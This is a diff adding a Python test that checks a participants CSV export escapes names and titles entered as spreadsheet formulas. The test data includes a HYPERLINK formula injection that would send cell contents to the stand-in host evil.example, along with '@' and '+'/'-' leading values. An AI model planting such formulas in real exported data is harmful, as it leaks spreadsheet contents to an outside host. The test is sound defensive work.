@@ -1,3 +1,4 @@
+import csv as csv_module
 import datetime as dt
 import io
 
@@ -57,6 +58,30 @@ def test_list_of_participants_csv_puts_heads_first(focal_point_state_a):
     assert rows[1] == "Member States,Austria,Head of delegation,Anna Berger,Ambassador"
     assert "contact@aut.example" not in csv  # contacts never leave the office
     assert "+43" not in csv
+
+
+def test_a_name_typed_as_a_formula_is_written_as_text_in_the_csv(focal_point_state_a):
+    meeting = factories.meeting(language="en")
+    delegation = factories.delegation(meeting)
+    people = [
+        {"role": "head", "name": '=HYPERLINK("https://evil.example/?"&A1)', "title": "+1"},
+        {"role": "adviser", "name": "@SUM(A1:A9)", "title": "-2"},
+        {"role": "adviser", "name": "Anna-Maria Berger", "title": "Counsellor"},
+    ]
+    register_delegation(
+        delegation=delegation,
+        participants=people,
+        expected_version=delegation.version,
+        by=focal_point_state_a,
+        today=dt.date(2030, 3, 10),
+    )
+    decide_registration(delegation=delegation, approve=True, by=None)
+    rows = list(csv_module.reader(io.StringIO(participants_csv(meeting).decode())))[1:]
+    assert [row[3:] for row in rows] == [
+        ['\'=HYPERLINK("https://evil.example/?"&A1)', "'+1"],
+        ["'@SUM(A1:A9)", "'-2"],
+        ["Anna-Maria Berger", "Counsellor"],
+    ]
 
 
 def test_list_of_participants_pdf(focal_point_state_a):
